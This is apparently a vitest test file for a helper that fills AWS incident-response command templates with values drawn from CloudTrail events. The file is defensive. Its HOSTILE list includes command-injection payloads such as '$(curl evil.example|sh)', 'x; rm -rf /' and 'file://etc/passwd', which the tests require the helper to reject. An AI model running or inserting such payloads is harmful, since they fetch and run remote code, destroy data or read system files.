import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { EcsEvent } from '@/lib/ecs';
import {
  fillCommands,
  fillTemplate,
  PLACEHOLDERS,
  type Placeholder,
  placeholderValues,
} from '@/lib/rules/guide';

const GOOD: Record<Placeholder, readonly string[]> = {
  arn: [
    'arn:aws:iam::111122223333:user/team/dana',
    'arn:aws:iam::111122223333:root',
    'arn:aws:sts::111122223333:assumed-role/deploy/dana@example.com',
    'arn:aws-us-gov:sts::111122223333:federated-user/dana',
  ],
  principal_arn: [
    'arn:aws:iam::111122223333:role/aws-reserved/x_y',
    'arn:aws-cn:iam::111122223333:user/dana',
  ],
  user_name: ['dana', 'dana.d+ci@example.com', '_svc', 'A'.repeat(64)],
  role_name: ['AWSReservedSSO_Admin_0123456789abcdef', 'deploy-role'],
  access_key_id: ['AKIAEXAMPLEDANA00001', 'ASIAEXAMPLEDEPLOY001'],
  long_term_key_id: ['AKIAEXAMPLEDANA00001'],
  instance_id: ['i-0a1b2c3d', 'i-0a1b2c3d4e5f60718'],
  account_id: ['111122223333'],
  region: ['eu-west-1', 'us-gov-west-1', 'us-isob-east-1', 'ap-southeast-2', 'eusc-de-east-1'],
};

const HOSTILE = [
  '',
  ' ',
  '$(curl evil.example|sh)',
  '`id`',
  'x; rm -rf /',
  'x && y',
  "x'",
  'x"',
  'x\\',
  'x\ny',
  'dana\n',
  '-x',
  '--debug',
  '=ls',
  '@file',
  'a,AttributeKey=b',
  'file://etc/passwd',
  'x y',
  '*',
  'dan?',
  '{{region}}',
  '%USERPROFILE%',
  '!!',
  '~root',
  '<b>x</b>',
  'dаna',
  '\u202edana',
];

describe('filling a command', () => {
  test.each(PLACEHOLDERS)('plain values of %s are used as they are', (name) => {
    for (const value of GOOD[name]) {
      expect(fillTemplate(`--flag {{${name}}}`, { [name]: value })).toEqual({
        text: `--flag ${value}`,
        missing: [],
      });
    }
  });

  test.each(PLACEHOLDERS)('hostile values of %s are left open and reported', (name) => {
    const prefix = GOOD[name][0] ?? '';
    const attached = HOSTILE.filter((value) => value !== '').flatMap((value) => [
      ` ${prefix}`,
      `${prefix};${value}`,
    ]);
    for (const value of [...HOSTILE, ...attached]) {
      expect(fillTemplate(`{{${name}}}`, { [name]: value })).toEqual({
        text: `REPLACE_WITH_${name.toUpperCase()}`,
        missing: [name],
      });
    }
  });

  test('whatever the log says, a filled value holds only characters that mean themselves', () => {
    const unit = fc.constantFrom(...'aA09-_.:/@+=,;$`"\'\\ \n\r\t{}<>[]()*?!~%^&|#\u0000\u00e9\u202e');
    const value = fc.oneof(
      fc.string({ unit }),
      fc.string().map((tail) => `arn:aws:iam::111122223333:user/${tail}`),
    );
    fc.assert(
      fc.property(fc.constantFrom(...PLACEHOLDERS), value, (name, hostile) =>
        /^[A-Za-z0-9_][A-Za-z0-9_.@+=/:-]*$/.test(fillTemplate(`{{${name}}}`, { [name]: hostile }).text),
      ),
      { numRuns: 1000 },
    );
  });

  test('absent and unknown placeholders are reported once, in order', () => {
    const filled = fillTemplate('{{secret_name}} {{region}} {{ region }} {{constructor}}', {});

    expect(filled).toEqual({
      text: 'REPLACE_WITH_SECRET_NAME REPLACE_WITH_REGION REPLACE_WITH_REGION REPLACE_WITH_CONSTRUCTOR',
      missing: ['secret_name', 'region', 'constructor'],
    });
  });

  test('braces that are no placeholder stay', () => {
    const policy = '{"Statement":[{"Condition":{"DateLessThan":{"a":"b"}}}]}';

    expect(fillTemplate(policy, {})).toEqual({ text: policy, missing: [] });
  });
});

describe('the command for the caller', () => {
  const commands = [
    { label: 'user', template: 'u {{user_name}}' },
    { label: 'role', template: 'r {{role_name}}' },
    { label: 'both', template: 'b {{region}}' },
  ];
  const labels = (values: Parameters<typeof fillCommands>[1]) =>
    fillCommands(commands, values).map(({ label }) => label);

  test('a user gets the command for users, a role that for roles', () => {
    expect(labels({ user_name: 'dana' })).toEqual(['user', 'both']);
    expect(labels({ role_name: 'deploy' })).toEqual(['role', 'both']);
  });

  test('a caller that is neither gets all', () => {
    expect(labels({})).toEqual(['user', 'role', 'both']);
  });

  test('a hostile user name is still a user', () => {
    expect(fillCommands(commands, { user_name: '$(x)' })[0]).toEqual({
      label: 'user',
      text: 'u REPLACE_WITH_USER_NAME',
      missing: ['user_name'],
    });
  });
});

describe('values of an event', () => {
  const common = {
    'cloud.account.id': '111122223333',
    'cloud.region': 'eu-west-1',
    'aws.cloudtrail.flattened.request_parameters': { attribute: 'userData', instanceId: 'i-0a1b2c3d' },
  } satisfies EcsEvent;

  test('a user is named without its path', () => {
    const values = placeholderValues({
      ...common,
      'aws.cloudtrail.user_identity.type': 'IAMUser',
      'aws.cloudtrail.user_identity.arn': 'arn:aws:iam::111122223333:user/team/dana',
      'aws.cloudtrail.user_identity.access_key_id': 'AKIAEXAMPLEDANA00001',
    });

    expect(values).toEqual({
      arn: 'arn:aws:iam::111122223333:user/team/dana',
      principal_arn: 'arn:aws:iam::111122223333:user/team/dana',
      user_name: 'dana',
      access_key_id: 'AKIAEXAMPLEDANA00001',
      long_term_key_id: 'AKIAEXAMPLEDANA00001',
      instance_id: 'i-0a1b2c3d',
      account_id: '111122223333',
      region: 'eu-west-1',
    });
  });

  test('a session gives its role, and its temporary key never passes for a long-term one', () => {
    const values = placeholderValues({
      ...common,
      'aws.cloudtrail.user_identity.type': 'AssumedRole',
      'aws.cloudtrail.user_identity.arn': 'arn:aws:sts::111122223333:assumed-role/deploy/build-1',
      'aws.cloudtrail.user_identity.access_key_id': 'ASIAEXAMPLEDEPLOY001',
      'aws.cloudtrail.user_identity.session_context.session_issuer.arn':
        'arn:aws:iam::111122223333:role/ci/deploy',
    });

    expect(values).toMatchObject({
      principal_arn: 'arn:aws:iam::111122223333:role/ci/deploy',
      role_name: 'deploy',
    });
    expect(values).not.toHaveProperty('user_name');
    expect(fillTemplate('{{long_term_key_id}}', values).missing).toEqual(['long_term_key_id']);
  });

  test('the root user is neither user nor role', () => {
    const values = placeholderValues({
      ...common,
      'aws.cloudtrail.user_identity.type': 'Root',
      'aws.cloudtrail.user_identity.arn': 'arn:aws:iam::111122223333:root',
    });

    expect(Object.keys(values)).toEqual(['arn', 'instance_id', 'account_id', 'region']);
  });

  test('an event without any of them gives none', () => {
    expect(placeholderValues({})).toEqual({});
    expect(
      placeholderValues({ 'aws.cloudtrail.flattened.request_parameters': { instanceId: ['x'] } }),
    ).toEqual({});
  });
});
